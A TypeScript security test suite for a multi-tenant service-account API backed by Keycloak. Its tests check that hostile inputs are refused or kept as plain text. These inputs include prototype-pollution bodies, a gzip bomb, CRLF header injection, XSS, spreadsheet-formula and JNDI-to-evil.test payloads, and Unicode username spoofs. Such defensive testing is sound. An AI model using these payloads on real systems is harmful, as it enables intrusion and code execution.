import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { clientAttributes } from '../../../src/names.ts';
import { type AttackedHouse, attackedHouse, pathOf } from '../../support/attacked-house.ts';
import { rawRequest, sendRaw } from '../../support/raw-http.ts';

let house: AttackedHouse;
let victim: { id: string };
beforeAll(async () => {
  house = await attackedHouse();
  victim = await house.victim();
});

const json = 'Content-Type: application/json';

/** A body as it stands, to where accounts are made. */
async function post(body: string, headers: readonly string[] = [json]) {
  const authorization = `Authorization: Bearer ${await house.realm.tokenOf('admin')}`;
  const start = 'POST /api/v1/tenants/acme/service-accounts';
  return sendRaw(house.url, rawRequest(start, [authorization, ...headers], body));
}

async function patch(body: string) {
  const authorization = `Authorization: Bearer ${await house.realm.tokenOf('admin')}`;
  const start = `PATCH /api/v1/tenants${pathOf(victim.id)}`;
  return sendRaw(house.url, rawRequest(start, [authorization, json], body));
}

const extra: [string, unknown][] = [
  ['attributes', { [clientAttributes.tenant]: 'globex' }],
  ['protocolMappers', []],
  ['fullScopeAllowed', true],
  ['secret', 'x'],
  ['clientSecret', 'x'],
  ['id', '00000000-0000-4000-8000-000000000000'],
  ['clientId', 'x'],
  ['tenantId', 'globex'],
  ['redirectUris', ['https://evil.test/*']],
  ['enabled', true],
  ['status', 'active'],
  ['createdBy', { subject: 'x', username: 'x' }],
];

it.each(extra)('attack 7: a field that nobody may give is refused: %s', async (name, value) => {
  const before = await house.state();
  expect((await post(JSON.stringify({ username: 'Extra', mode: 'agent', [name]: value }))).statuses).toEqual([
    400,
  ]);
  expect((await patch(JSON.stringify({ description: 'Extra', [name]: value }))).statuses).toEqual([400]);
  expect(await house.state()).toEqual(before);
});

it.each([
  '{"__proto__":{"isAdmin":true},"username":"Proto","mode":"agent"}',
  '{"constructor":{"prototype":{"isAdmin":true}},"username":"Proto","mode":"agent"}',
  '{"username":"Proto","mode":"agent","\\u005f_proto__":{"isAdmin":true}}',
  '{"username":{"__proto__":{"isAdmin":true}},"mode":"agent"}',
  '{"username":"Proto","mode":"custom","permissions":{"__proto__":["customers:read"],"length":1}}',
])('attack 8: nothing gets into the prototype by %s', async (body) => {
  const before = await house.state();
  expect((await post(body)).statuses).toEqual([400]);
  expect((await patch(body)).statuses).toEqual([400]);
  expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined();
  expect(await house.state()).toEqual(before);
});

it('attack 9: of a field that is there twice the last counts, for the check of rights as for Keycloak', async () => {
  const authorization = `Authorization: Bearer ${await house.realm.tokenOf('agentWriter')}`;
  const start = 'POST /api/v1/tenants/acme/service-accounts';
  const create = (modes: string) =>
    sendRaw(house.url, rawRequest(start, [authorization, json], `{"username":"Twice",${modes}}`));
  expect((await create('"mode":"agent","mode":"admin"')).statuses).toEqual([403]);
  const { statuses, text } = await create('"mode":"admin","mode":"agent"');
  expect(statuses).toEqual([201]);
  const id = /"id":"([0-9a-f-]{36})"/.exec(text)?.[1] ?? '';
  expect((await house.realm.inKeycloak(id))?.roles['orki-api']).toEqual(['mode-agent']);
});

describe('attack 21: no way of writing the Content-Type goes round the check of a body', () => {
  const forms = [
    ...[
      'Content-Type:  application/json',
      'Content-Type:\tapplication/json',
      'Content-Type: application/json;',
    ],
    ...['Content-Type: application/json ; charset=utf-8', 'Content-Type: application/json\t;a=b'],
    ...['Content-Type: APPLICATION/JSON', 'Content-Type: application/json;charset=utf-16'],
    ...['Content-Type: application/merge-patch+json;', 'Content-Type: application/json, text/plain'],
    ...[
      'Content-Type: text/plain',
      'Content-Type: application/x-www-form-urlencoded',
      'Content-Type: text/json',
    ],
    ...[
      'Content-Type: multipart/form-data; boundary=x',
      'Content-Type: application/jsonx',
      'Content-Type:',
      'X-A: b',
    ],
    ...['Content-Type: text/plain\r\nContent-Type: application/json'],
  ];

  it.each(forms)('%j', async (form) => {
    const before = await house.state();
    const { statuses } = await post('{"username":"Type","mode":"agent","enabled":true}', [form]);
    expect(statuses).toEqual([expect.toBeOneOf([400, 415])]);
    expect(await house.state()).toEqual(before);
  });
});

describe('attack 22: what is too large or too deep is refused', () => {
  const permissions = Array.from({ length: 10_000 }, (_, index) => `p${index}`);
  it.each([
    ['a body over the limit', `{"username":"${'x'.repeat(70_000)}"}`, [json], [413]],
    ['10,000 permissions', JSON.stringify({ username: 'Many', mode: 'custom', permissions }), [json], [413]],
    [
      '5,000 permissions',
      JSON.stringify({ username: 'Many', mode: 'custom', permissions: permissions.slice(0, 5_000) }),
      [json],
      [400],
    ],
    ['30,000 brackets', '['.repeat(30_000) + ']'.repeat(30_000), [json], [400]],
    ['30,000 brackets in a field', `{"username":${'['.repeat(30_000)}${']'.repeat(30_000)}}`, [json], [400]],
    ['6,000 objects in each other', `${'{"a":'.repeat(6_000)}1${'}'.repeat(6_000)}`, [json], [400]],
    ['a number that is none', '{"username":"n","mode":1e999}', [json], [400]],
    [
      'a bomb of gzip',
      gzipSync(Buffer.alloc(20_000_000, 32)).toString('latin1'),
      [json, 'Content-Encoding: gzip'],
      [400, 415],
    ],
    ['a length that lies', '{}', [json, 'Content-Length: 99999999'], [413]],
  ])('%s', async (_, body, headers, expected) => {
    const before = await house.state();
    const { statuses } = await post(body, headers);
    expect(statuses).toEqual([expect.toBeOneOf(expected)]);
    expect(await house.state()).toEqual(before);
  });
});

describe('attack 24: a username', () => {
  const create = (username: string) => house.request({ method: 'POST', body: { username, mode: 'agent' } });

  it.each([
    ['of two scripts', 'pаypal'],
    ['that runs from right to left', 'a\u202Egpj'],
    ['with nothing to see in it', 'a\u200Bb'],
    ['with a joiner', 'a\u200Db'],
    ['with a new line', 'a\r\nSet-Cookie: x'],
    ['with NUL', 'a\u0000b'],
    ['with half a character', 'a\uD800b'],
    ['of a byte order mark', '\uFEFF'],
    ['of tags', '\u{E0041}\u{E0042}'],
    ['of fillers', '\u3164\u3164'],
    ['of 65 characters', 'a'.repeat(65)],
    ['of one letter with 70 marks', `a${'\u0301'.repeat(70)}`],
    ['with other digits', 'a٣'],
    ['of white space', ' \t '],
  ])('%s is refused', async (_, username) => {
    const before = await house.state();
    expect(await create(username)).toMatchObject({
      status: 400,
      body: { errors: [{ pointer: '/username' }] },
    });
    expect(await house.state()).toEqual(before);
  });

  it('of another form of the same letters is the same (NFC and NFKC)', async () => {
    const { status, body } = await create('Zu\u0308rich sync');
    expect([status, body.username]).toEqual([201, 'Z\u00FCrich sync']);
    for (const same of ['zürich SYNC', 'Zürich sync', 'Ｚürich sync'.normalize('NFKC')]) {
      expect(await create(same)).toMatchObject({ status: 409 });
    }
  });
});

describe('attack 25: a description that would be more than text elsewhere', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    "=cmd|' /C calc'!A0",
    '\n{"level":60,"msg":"forged"}',
    '\u0024{jndi:ldap://evil.test/a}',
    '\u0024{vault.secret}',
    '"}]}, {"orki.tenant":"globex',
    '%0d%0aSet-Cookie: x=y',
  ])('is text here, in Keycloak and in the logs: %j', async (description) => {
    const lines = house.log.length;
    const path = pathOf(victim.id);
    const answer = await house.request({ method: 'PATCH', path, body: { description } });
    expect(answer).toMatchObject({ status: 200, body: { description } });
    expect(answer.headers.get('content-type')).toContain('application/json');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect((await house.request({ path })).body.description).toBe(description);
    const stored = await house.realm.clientInKeycloak(victim.id);
    expect(stored.attributes).toMatchObject({
      [clientAttributes.description]: description,
      [clientAttributes.tenant]: 'acme',
    });
    for (const line of house.log.slice(lines)) {
      expect(line.trimEnd()).not.toContain('\n');
      expect(JSON.parse(line).msg).not.toBe('forged');
    }
  });

  it.each(['\u001B[31mred', 'a\u0007', 'a\u0000', '\uD800', 'a\u0085b'])(
    'is refused: %j',
    async (description) => {
      const answer = await house.request({ method: 'PATCH', path: pathOf(victim.id), body: { description } });
      expect(answer).toMatchObject({ status: 400, body: { errors: [{ pointer: '/description' }] } });
    },
  );
});
